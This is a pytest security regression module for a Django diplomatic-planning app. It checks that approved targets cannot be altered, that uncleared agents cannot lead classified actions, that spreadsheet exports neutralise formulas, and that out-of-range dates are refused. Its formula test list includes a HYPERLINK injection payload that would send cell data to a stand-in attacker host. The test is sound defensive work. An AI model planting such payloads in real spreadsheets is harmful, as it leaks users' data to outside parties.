"""Holes an attack found in planning: approved targets, uncleared leads, formulas, dates."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from chancery.accounts.models import User
from chancery.core.classification import Level
from chancery.planning import services, spreadsheets
from chancery.planning.demo import sample_programme
from chancery.planning.models import Action, Axis, Indicator, Programme

pytestmark = pytest.mark.django_db

YEAR = 2026


@pytest.fixture(autouse=True)
def english(settings: Any) -> None:
    settings.LANGUAGE_CODE = "en"


def _clear(ministry: Any, username: str, level: int) -> User:
    User.objects.unrestricted("test").filter(username=username).update(clearance_level=level)
    ministry.users[username] = User.objects.unrestricted("test").get(username=username)
    return ministry.users[username]


@pytest.fixture
def draft(ministry: Any) -> Programme:
    return sample_programme(mission=ministry.units["DAKAR"], year=YEAR, user=ministry.users["counsellor.dakar"])


@pytest.fixture
def approved(ministry: Any, draft: Programme) -> Programme:
    u = ministry.users
    services.submit_programme(user=u["hom.dakar"], programme=draft)
    services.approve_programme(user=u["plan.sg4"], programme=draft)
    draft.refresh_from_db()
    return draft


def _indicator(programme: Programme) -> Indicator:
    return Indicator.objects.unrestricted("test").filter(programme=programme).earliest("pk")


# --- Approved targets change only through a revision -------------------------------------


def test_the_service_refuses_to_change_an_approved_target(ministry: Any, approved: Programme) -> None:
    indicator = _indicator(approved)
    approved_value = indicator.approved_target
    assert approved_value is not None
    with pytest.raises(ValidationError) as caught:
        services.update_indicator(user=ministry.users["counsellor.dakar"], indicator=indicator,
                                  approved_target=approved_value + 50)
    assert "approved_target" in caught.value.message_dict
    assert _indicator(approved).approved_target == approved_value
    # The revised target is the way.
    services.update_indicator(user=ministry.users["counsellor.dakar"], indicator=_indicator(approved),
                              approved_target=approved_value, revised_target=approved_value + 50)
    assert _indicator(approved).revised_target == approved_value + 50


def test_an_indicator_added_after_approval_has_no_approved_target(ministry: Any, approved: Programme) -> None:
    with pytest.raises(ValidationError) as caught:
        services.create_indicator(user=ministry.users["counsellor.dakar"], programme=approved, label="New",
                                  approved_target=Decimal("10"))
    assert "approved_target" in caught.value.message_dict
    indicator = services.create_indicator(user=ministry.users["counsellor.dakar"], programme=approved, label="New",
                                          revised_target=Decimal("10"))
    assert indicator.approved_target is None


def test_the_spreadsheet_import_cannot_change_an_approved_target(ministry: Any, approved: Programme) -> None:
    indicator = _indicator(approved)
    data = spreadsheets.export_programme(approved)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["Indicators"]
    header = [cell.value for cell in ws[1]]
    column = header.index("Approved target") + 1
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == indicator.pk)
    ws.cell(row=row, column=column, value=float(indicator.approved_target or 0) + 999)
    buffer = io.BytesIO()
    wb.save(buffer)
    preview = spreadsheets.parse_programme_workbook(buffer.getvalue(), mission=ministry.units["DAKAR"], year=YEAR,
                                                    programme=approved)
    assert preview.is_valid, preview.all_errors
    with pytest.raises(ValidationError) as caught:
        spreadsheets.apply_import(preview, user=ministry.users["counsellor.dakar"], programme=approved)
    assert "approved target" in " ".join(caught.value.messages)
    assert _indicator(approved).approved_target == indicator.approved_target


def test_the_indicator_form_cannot_change_an_approved_target(ministry: Any, approved: Programme,
                                                             client_for: Any) -> None:
    indicator = _indicator(approved)
    client = client_for("counsellor.dakar")
    url = f"/planning/{approved.pk}/indicators/{indicator.pk}/edit/"
    form = client.get(url).context["form"]
    post = {name: ("" if value is None else value) for name, value in form.initial.items()}
    post.update({"label": indicator.label, "approved_target": "12345", "direction": indicator.direction})
    client.post(url, post)
    assert _indicator(approved).approved_target == indicator.approved_target


# --- People assigned must be cleared -------------------------------------------------------


@pytest.fixture
def confidential(ministry: Any, draft: Programme) -> Programme:
    _clear(ministry, "hom.dakar", Level.SECRET)
    _clear(ministry, "counsellor.dakar", Level.RESTRICTED)
    Action.objects.unrestricted("test").filter(programme=draft).update(lead=ministry.users["hom.dakar"])
    services.update_programme(user=ministry.users["hom.dakar"], programme=draft, classification=Level.CONFIDENTIAL)
    draft.refresh_from_db()
    return draft


def test_an_action_cannot_be_led_by_an_agent_cleared_below_it(ministry: Any, confidential: Programme) -> None:
    hom, counsellor = ministry.users["hom.dakar"], ministry.users["counsellor.dakar"]
    axis = Axis.objects.unrestricted("test").filter(programme=confidential).earliest("pk")
    with pytest.raises(ValidationError) as caught:
        services.create_action(user=hom, programme=confidential, axis=axis, title="Secret visit", lead=counsellor)
    assert "lead" in caught.value.message_dict
    action = Action.objects.unrestricted("test").filter(programme=confidential).earliest("pk")
    with pytest.raises(ValidationError):
        services.update_action(user=hom, action=action, lock_version=None, lead=counsellor)
    assert Action.objects.unrestricted("test").get(pk=action.pk).lead_id == hom.pk
    # A cleared lead is accepted.
    services.update_action(user=hom, action=action, lock_version=None, lead=ministry.users["hom.dakar"])


def test_raising_the_marking_above_a_lead_is_refused(ministry: Any, draft: Programme) -> None:
    _clear(ministry, "hom.dakar", Level.SECRET)
    _clear(ministry, "counsellor.dakar", Level.RESTRICTED)  # leads every action of the sample
    with pytest.raises(ValidationError) as caught:
        services.update_programme(user=ministry.users["hom.dakar"], programme=draft,
                                  classification=Level.CONFIDENTIAL)
    assert "counsellor.dakar" in " ".join(caught.value.message_dict["classification"])
    assert Programme.objects.unrestricted("test").get(pk=draft.pk).classification == Level.UNCLASSIFIED


def test_the_api_refuses_an_uncleared_lead(ministry: Any, confidential: Programme) -> None:
    from django.test import Client

    from chancery.accounts.services import issue_api_token

    token = issue_api_token(user=ministry.users["hom.dakar"])
    axis = Axis.objects.unrestricted("test").filter(programme=confidential).earliest("pk")
    response = Client().post(
        "/api/v1/actions", {"programme": confidential.pk, "axis": axis.pk, "title": "Secret visit",
                            "lead": "counsellor.dakar"},
        content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 422, response.content
    assert not Action.objects.unrestricted("test").filter(title="Secret visit").exists()


# --- Spreadsheet cells are never formulas ------------------------------------------------


FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("http://evil.example/?x="&B4,"click")']


def test_exported_text_that_looks_like_a_formula_stays_text(ministry: Any, draft: Programme, tmp_path: Path) -> None:
    user = ministry.users["counsellor.dakar"]
    services.update_programme(user=user, programme=draft, title=FORMULAS[0], summary=FORMULAS[4])
    axis = Axis.objects.unrestricted("test").filter(programme=draft).earliest("pk")
    for text in FORMULAS:
        services.create_action(user=user, programme=draft, axis=axis, title=text, description=text, risk_note=text)
    data = spreadsheets.export_programme(draft)
    wb = load_workbook(io.BytesIO(data))
    texts = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value in FORMULAS]
    assert len(texts) >= 2 + 3 * len(FORMULAS)
    assert {cell.data_type for cell in texts} == {"s"}
    # A real spreadsheet application computes nothing: LibreOffice reads the first sheet's text back.
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.fail("LibreOffice (soffice) is not installed")
    source = tmp_path / "programme.xlsx"
    source.write_bytes(data)
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "csv",
                    "--outdir", str(tmp_path), str(source)], check=True, capture_output=True, timeout=120)
    rows = list(csv.reader((tmp_path / "programme.csv").read_text(encoding="utf-8", errors="replace").splitlines()))
    values = {row[0]: row[1] for row in rows if len(row) > 1}
    assert values["Title"] == FORMULAS[0]
    assert values["Summary"] == FORMULAS[4]
    # ...and the import reads the same text back.
    preview = spreadsheets.parse_programme_workbook(data, mission=ministry.units["DAKAR"], year=YEAR, programme=draft)
    assert preview.is_valid, preview.all_errors
    assert {row.values["title"] for row in preview.actions} >= set(FORMULAS)


# --- Dates and years are bounded ------------------------------------------------------------


@pytest.mark.parametrize("field", ["end_date", "start_date", "target_date"])
def test_an_action_date_beyond_the_bounds_is_refused(ministry: Any, draft: Programme, field: str) -> None:
    action = Action.objects.unrestricted("test").filter(programme=draft).earliest("pk")
    with pytest.raises(ValidationError) as caught:
        services.update_action(user=ministry.users["counsellor.dakar"], action=action, lock_version=None,
                               **{field: date(9999, 12, 31)})
    assert field in caught.value.message_dict
    assert getattr(Action.objects.unrestricted("test").get(pk=action.pk), field) != date(9999, 12, 31)


def test_far_dates_give_clear_errors_on_every_path_and_the_feeds_keep_working(
    ministry: Any, draft: Programme, client_for: Any
) -> None:
    from chancery.accounts.services import issue_api_token

    action = Action.objects.unrestricted("test").filter(programme=draft).earliest("pk")
    client = client_for("counsellor.dakar")
    # The form.
    url = f"/planning/{draft.pk}/actions/{action.pk}/edit/"
    form = client.get(url).context["form"]
    post = {name: ("" if value is None else value) for name, value in form.initial.items()
            if not isinstance(value, list | tuple)}
    post.update({"end_date": "9999-12-31", "lock_version": action.lock_version})
    response = client.post(url, post)
    assert response.status_code in {200, 422}
    assert "between 1900-01-01 and 2199-12-31" in response.content.decode()
    # The API.
    token = issue_api_token(user=ministry.users["counsellor.dakar"])
    response = client.patch(f"/api/v1/actions/{action.pk}", {"end_date": "9999-12-31"},
                            content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 422, response.content
    assert Action.objects.unrestricted("test").get(pk=action.pk).end_date != date(9999, 12, 31)
    # A programme year.
    response = client.post("/api/v1/programmes", {"mission": "DAKAR", "year": 99999},
                           content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert 400 <= response.status_code < 500
    for page in (f"/planning/{draft.pk}/timeline/", "/planning/calendar/", "/planning/calendar.ics",
                 "/planning/?year=-1", "/planning/calendar/?month=9999-12", "/planning/calendar/?month=-1-01"):
        assert client.get(page).status_code < 500, page
